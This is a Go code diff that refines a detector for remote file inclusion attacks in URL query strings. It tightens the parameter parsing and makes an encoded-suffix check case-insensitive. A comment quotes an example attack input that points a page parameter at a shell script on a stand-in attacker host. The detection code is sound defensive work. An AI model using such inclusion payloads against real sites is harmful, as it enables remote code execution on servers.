@@ -190,10 +190,16 @@ func targetShapes(t []byte) uint8 {
 // inclusion, ?page=http://evil.example/shell.txt?.
 func isRFI(t []byte) bool {
 	q := bytes.IndexByte(t, '?')
-	if q < 0 {
+	if q < 0 || bytes.IndexByte(t[q+1:], '=') < 0 {
 		return false
 	}
-	for _, param := range bytes.Split(t[q+1:], []byte("&")) {
+	for rest := t[q+1:]; len(rest) > 0; {
+		param := rest
+		if a := bytes.IndexByte(rest, '&'); a >= 0 {
+			param, rest = rest[:a], rest[a+1:]
+		} else {
+			rest = nil
+		}
 		eq := bytes.IndexByte(param, '=')
 		if eq < 0 {
 			continue
@@ -203,7 +209,7 @@ func isRFI(t []byte) bool {
 			!hasPrefixFold(v, "http%3a%2f%2f") && !hasPrefixFold(v, "https%3a%2f%2f") {
 			continue
 		}
-		if bytes.IndexByte(v[6:], '?') >= 0 || bytes.HasSuffix(bytes.ToLower(v), []byte("%3f")) {
+		if bytes.IndexByte(v[6:], '?') >= 0 || len(v) > 3 && bytes.EqualFold(v[len(v)-3:], []byte("%3f")) {
 			return true
 		}
 	}
